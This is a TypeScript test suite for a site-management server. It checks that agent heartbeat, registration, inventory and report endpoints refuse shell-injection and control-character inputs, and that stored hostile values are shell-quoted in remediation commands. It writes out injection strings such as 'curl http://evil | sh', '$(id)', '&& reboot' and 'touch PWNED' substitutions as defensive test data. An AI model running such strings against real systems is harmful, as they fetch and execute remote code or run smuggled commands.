import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';
import type { ImpactReport, PortsView, RegisterResponse } from '@siteport/protocol';
import { TestMpClient, call } from '../../../test-support/mp-client.js';
import { startTestServer } from '../../../test-support/test-server.js';
import { tempDir } from '../../../test-support/temp-dir.js';
import { waitFor } from '../../../test-support/wait-for.js';

const HOSTILE_STATE_DIR = '/x; curl http://evil | sh; #';

async function registered(t: Parameters<typeof startTestServer>[0]) {
  const s = await startTestServer(t);
  const ports = (await s.admin<PortsView>('GET', '/sites/PS1/ports')).body;
  const base = `http://127.0.0.1:${ports.http.default}`;
  const client = new TestMpClient();
  const send = (path: string, payload: unknown) => {
    const body = Buffer.from(JSON.stringify(payload));
    return call(`${base}${path}`, { method: 'POST', body, headers: client.signedHeaders('POST', path, body) });
  };
  const reg = await send('/mp/v1/register', {
    siteCode: 'PS1',
    hostname: 'host-a',
    publicKey: client.publicKeyPem,
    category: 'workgroup',
    agentVersion: '0.1.0',
  });
  assert.equal(reg.status, 200, JSON.stringify(reg.body));
  client.clientId = (reg.body as RegisterResponse).clientId;
  const stored = () =>
    s.server.db.selectFrom('clients').selectAll().where('id', '=', client.clientId).executeTakeFirstOrThrow();
  return { s, ports, base, client, send, stored };
}

test('a heartbeat whose stateDir, hostname or agentState carries a shell command or control characters is refused at the MP and nothing of it is stored', async (t) => {
  const { send, stored } = await registered(t);
  const good = { settingsVersion: 1, agentState: 'running', hostname: 'host-a', stateDir: '/var/lib/siteport-agent' };
  assert.equal((await send('/mp/v1/heartbeat', good)).status, 200);

  const attacks: [string, Record<string, unknown>][] = [
    ['/stateDir', { stateDir: HOSTILE_STATE_DIR }],
    ['/stateDir', { stateDir: '/var/lib/a\nsiteport: all clients moved\x1b[2K' }],
    ['/stateDir', { stateDir: '/var/lib/$(id)' }],
    ['/hostname', { hostname: 'host-a; curl http://evil | sh' }],
    ['/hostname', { hostname: 'host-a\r\n  evil-line' }],
    ['/agentState', { agentState: 'running\x1b]0;owned\x07' }],
  ];
  for (const [field, change] of attacks) {
    const res = await send('/mp/v1/heartbeat', { ...good, agentState: 'unreachable', ...change });
    assert.equal(res.status, 400, `${field}: ${JSON.stringify(res.body)}`);
    assert.equal(res.body.error.code, 'E_VALIDATION');
    assert.match(res.body.error.message, new RegExp(`^heartbeat: ${field} must be `));
    assert.equal(res.body.error.details.field, field);
  }
  // A valid heartbeat after the attacks: once it is stored, the refused ones would have been too.
  assert.equal((await send('/mp/v1/heartbeat', { ...good, agentState: 'starting' })).status, 200);
  const row = await waitFor('the last heartbeat is recorded', async () => {
    const r = await stored();
    return r.agent_state === 'starting' ? r : undefined;
  });
  assert.equal(row.state_dir, '/var/lib/siteport-agent');
  assert.equal(row.hostname, 'host-a');
});

test('registration, inventory, pre-flight reports and long-poll acks with hostile text are refused before anything is stored', async (t) => {
  const { s, base, send, client } = await registered(t);
  const fresh = new TestMpClient();
  const reg = (payload: Record<string, unknown>) => {
    const body = Buffer.from(
      JSON.stringify({
        siteCode: 'PS1',
        hostname: 'host-b',
        publicKey: fresh.publicKeyPem,
        category: 'workgroup',
        agentVersion: '0.1.0',
        ...payload,
      }),
    );
    return call(`${base}/mp/v1/register`, {
      method: 'POST',
      body,
      headers: fresh.signedHeaders('POST', '/mp/v1/register', body),
    });
  };
  for (const [field, payload] of [
    ['/hostname', { hostname: '127.0.0.1 && reboot' }],
    ['/agentVersion', { agentVersion: '1.0\n[info] all good' }],
  ] as const) {
    const res = await reg(payload);
    assert.equal(res.status, 400, JSON.stringify(res.body));
    assert.equal(res.body.error.details.field, field);
  }
  assert.equal((await s.server.db.selectFrom('clients').select('id').execute()).length, 1, 'no client was registered');

  const inventory = await send('/mp/v1/inventory', {
    interfaces: [{ name: 'eth0\n\x1b[31mforged', mac: '00:11:22:33:44:55', address: '10.0.0.5', prefixLength: 24 }],
  });
  assert.equal(inventory.status, 400, JSON.stringify(inventory.body));
  assert.equal(inventory.body.error.details.field, '/interfaces/0/name');
  assert.equal(
    (
      await s.server.db
        .selectFrom('client_interfaces')
        .select('client_id')
        .where('client_id', '=', client.clientId)
        .execute()
    ).length,
    0,
  );

  const probe = await send('/mp/v1/probe-report', {
    rolloutId: 'r1',
    results: [{ protocol: 'http', port: 8080, reachable: false, error: 'refused\r\nwarning: forged' }],
  });
  assert.equal(probe.status, 400, JSON.stringify(probe.body));
  assert.equal(probe.body.error.details.field, '/results/0/error');

  const poll = await send('/mp/v1/notify/poll', {
    waitSeconds: 0,
    acks: [{ id: 'a1', ok: false, error: { code: 'E_X\n', message: 'boom' } }],
  });
  assert.equal(poll.status, 400, JSON.stringify(poll.body));
  assert.equal(poll.body.error.details.field, '/acks/0/error/code');
});

test('a hostile state dir and host name already in the database come out shell-quoted in the impact report', async (t) => {
  const { s, ports, client, stored } = await registered(t);
  await waitFor('the registration is recorded', async () => (await stored()).last_contact_at !== null);
  const dir = tempDir(t);
  const marker = path.join(dir, 'PWNED');
  const stateDir = `/x; touch ${marker}; #'$(touch ${marker})`;
  // As stored by a site before client fields were validated: the MP no longer accepts these.
  await s.server.db
    .updateTable('clients')
    .set({ state_dir: stateDir, hostname: 'evil$(touch PWNED)', last_contact_at: null })
    .where('id', '=', client.clientId)
    .execute();
  const report = await s.admin<ImpactReport>('POST', '/sites/PS1/impact', {
    http: { default: ports.http.default + 1 },
  });
  assert.equal(report.status, 200, JSON.stringify(report.body));
  const entry = report.body.atRisk.find((c) => c.clientId === client.clientId);
  assert.ok(entry !== undefined, 'the inactive client is at risk');
  assert.equal(entry.remediation.length, 3);
  for (const command of entry.remediation) {
    assert.match(command, /^siteport /);
    // Run each command as an admin would paste it, with printf in place of siteport: the shell
    // must hand over the stored values as single words and run nothing else.
    const words = execFileSync('/bin/sh', ['-c', command.replace(/^siteport /, `printf '%s\\0' `)], {
      cwd: dir,
      encoding: 'utf8',
    })
      .split('\0')
      .slice(0, -1);
    if (words[0] === 'push') assert.deepEqual(words, ['push', 'evil$(touch PWNED)']);
    else assert.deepEqual(words.slice(0, 3), [words[0], '--state', stateDir]);
  }
  assert.equal(existsSync(marker), false, 'no pasted command ran the injected one');
  assert.equal(existsSync(path.join(dir, 'PWNED')), false);
});
